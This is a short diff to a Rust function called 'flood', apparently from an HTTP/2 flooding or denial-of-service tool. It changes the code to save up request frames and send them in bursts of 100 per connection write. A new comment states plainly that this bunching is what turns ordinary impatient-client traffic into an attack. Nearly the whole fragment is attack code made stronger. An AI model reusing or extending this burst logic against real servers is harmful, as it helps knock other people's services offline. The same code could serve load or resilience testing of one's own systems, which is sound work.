@@ -50,12 +50,15 @@ async fn flood(
     what: &str,
     mut one: impl FnMut(&mut Http2, &mut Vec<u8>),
 ) {
-    /// In one write: a server that says goodbye need not be sent a whole portion first.
+    /// In one write. As many as that at once are what makes an attack of it: one after the other they are an impatient client, whom a server
+    /// serves at its pace.
     const TOGETHER: u64 = 100;
+    let mut saved = 0;
     let mut pace = Pace::new(plan.rate, plan.lasting);
     let mut connection: Option<Http2> = None;
-    while let Some(mut portion) = pace.portion().await {
-        while portion > 0 {
+    while let Some(portion) = pace.portion().await {
+        saved += portion;
+        while saved >= TOGETHER {
             let mut open = match connection.take() {
                 Some(open) => open,
                 None => match Http2::open(address).await {
@@ -69,11 +72,10 @@ async fn flood(
                     }
                 },
             };
-            let now = portion.min(TOGETHER);
-            portion -= now;
+            saved -= TOGETHER;
             let mut out = Vec::new();
-            (0..now).for_each(|_| one(&mut open, &mut out));
-            seen.did(what, now);
+            (0..TOGETHER).for_each(|_| one(&mut open, &mut out));
+            seen.did(what, TOGETHER);
             let taken = open.send(&out).await;
             let goes_on = open.hear(seen);
             if goes_on && taken {
